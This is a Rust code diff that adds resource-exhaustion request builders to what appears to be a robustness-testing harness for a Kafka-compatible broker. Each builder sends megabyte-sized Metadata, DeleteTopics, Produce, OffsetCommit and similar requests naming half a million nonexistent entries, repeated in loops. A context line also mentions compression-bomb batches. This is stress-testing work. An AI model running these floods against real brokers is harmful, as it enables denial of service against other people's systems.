@@ -11,9 +11,13 @@ use std::time::{Duration, SystemTime, UNIX_EPOCH};
 const PRODUCE: (i16, i16) = (0, 7);
 const FETCH: (i16, i16) = (1, 4);
 const METADATA: (i16, i16) = (3, 1);
+const OFFSET_COMMIT: (i16, i16) = (8, 2);
+const DESCRIBE_GROUPS: (i16, i16) = (15, 0);
 const API_VERSIONS: (i16, i16) = (18, 0);
 const CREATE_TOPICS: (i16, i16) = (19, 4);
 const DELETE_TOPICS: (i16, i16) = (20, 3);
+const ADD_PARTITIONS_TO_TXN: (i16, i16) = (24, 0);
+const OFFSET_DELETE: (i16, i16) = (47, 0);
 
 const TIMEOUT_MS: i32 = 30_000;
 /// Partitions that a Produce request opens.
@@ -22,6 +26,8 @@ const FRESH_PARTITIONS: i32 = 8_000;
 const WIDE_PARTITIONS: i32 = 4_000;
 /// Topics that are created and deleted, or listed.
 const TOPICS: usize = 1_000;
+/// Names or partitions in a request of megabytes, none of which exists.
+const MANY: i32 = 500_000;
 /// Requests per connection of the request loops.
 const LOOP_REQUESTS: usize = 2_000;
 /// Requests of the same kind that are in flight.
@@ -234,6 +240,82 @@ pub(in super::super) fn wide_fetch(attacker: &mut Attacker<'_>) -> io::Result<()
     let frame = frame.count(1).string(&topic).i32(WIDE_PARTITIONS);
     let fetch = (0..WIDE_PARTITIONS).fold(frame, |frame, partition| frame.i32(partition).i64(0).i32(1 << 20));
     repeat(&mut link, &fetch.finish())
+}
+
+/// A request of megabytes with many names.
+fn names(frame: Frame) -> Frame {
+    (0..MANY).fold(frame.i32(MANY), |frame, number| frame.string(&format!("name-{number}")))
+}
+
+/// A request of megabytes with many partitions of a topic; `partition` adds the fields of one besides its index.
+fn partitions(frame: Frame, partition: impl Fn(Frame) -> Frame) -> Frame {
+    let frame = frame.count(1).string("unknown").i32(MANY);
+    (0..MANY).fold(frame, |frame, number| partition(frame.i32(number)))
+}
+
+/// Sends a large request without end, one at a time.
+fn repeat_large(attacker: &Attacker<'_>, request: &[u8]) -> io::Result<()> {
+    let mut link = attacker.open()?;
+    for _ in 0..LOOP_REQUESTS {
+        call(&mut link, request)?;
+    }
+    Ok(())
+}
+
+/// Metadata of half a million names.
+pub(in super::super) fn many_names(attacker: &mut Attacker<'_>) -> io::Result<()> {
+    static REQUEST: OnceLock<Vec<u8>> = OnceLock::new();
+    repeat_large(attacker, REQUEST.get_or_init(|| names(Frame::new(METADATA)).finish()))
+}
+
+/// `DescribeGroups` of half a million groups.
+pub(in super::super) fn many_groups(attacker: &mut Attacker<'_>) -> io::Result<()> {
+    static REQUEST: OnceLock<Vec<u8>> = OnceLock::new();
+    repeat_large(attacker, REQUEST.get_or_init(|| names(Frame::new(DESCRIBE_GROUPS)).finish()))
+}
+
+/// `DeleteTopics` of half a million topics.
+pub(in super::super) fn many_deletions(attacker: &mut Attacker<'_>) -> io::Result<()> {
+    static REQUEST: OnceLock<Vec<u8>> = OnceLock::new();
+    repeat_large(attacker, REQUEST.get_or_init(|| names(Frame::new(DELETE_TOPICS)).i32(TIMEOUT_MS).finish()))
+}
+
+/// Produce to half a million partitions, without records.
+pub(in super::super) fn many_partitions(attacker: &mut Attacker<'_>) -> io::Result<()> {
+    static REQUEST: OnceLock<Vec<u8>> = OnceLock::new();
+    let request = REQUEST.get_or_init(|| {
+        let frame = Frame::new(PRODUCE).i16(-1).i16(-1).i32(TIMEOUT_MS);
+        partitions(frame, |frame| frame.i32(-1)).finish()
+    });
+    repeat_large(attacker, request)
+}
+
+/// `OffsetCommit` of half a million partitions.
+pub(in super::super) fn many_offsets(attacker: &mut Attacker<'_>) -> io::Result<()> {
+    static REQUEST: OnceLock<Vec<u8>> = OnceLock::new();
+    let request = REQUEST.get_or_init(|| {
+        let frame = Frame::new(OFFSET_COMMIT).string("group").i32(-1).string("").i64(-1);
+        partitions(frame, |frame| frame.i64(7).string("")).finish()
+    });
+    repeat_large(attacker, request)
+}
+
+/// `OffsetDelete` of half a million partitions.
+pub(in super::super) fn many_offset_deletions(attacker: &mut Attacker<'_>) -> io::Result<()> {
+    static REQUEST: OnceLock<Vec<u8>> = OnceLock::new();
+    let request =
+        REQUEST.get_or_init(|| partitions(Frame::new(OFFSET_DELETE).string("group"), |frame| frame).finish());
+    repeat_large(attacker, request)
+}
+
+/// `AddPartitionsToTxn` with half a million partitions.
+pub(in super::super) fn many_participants(attacker: &mut Attacker<'_>) -> io::Result<()> {
+    static REQUEST: OnceLock<Vec<u8>> = OnceLock::new();
+    let request = REQUEST.get_or_init(|| {
+        let frame = Frame::new(ADD_PARTITIONS_TO_TXN).string("transaction").i64(1).i16(0);
+        partitions(frame, |frame| frame).finish()
+    });
+    repeat_large(attacker, request)
 }
 
 /// Batches of a few kB that decompress to 200 MiB, with zstd, for a topic that is compacted.
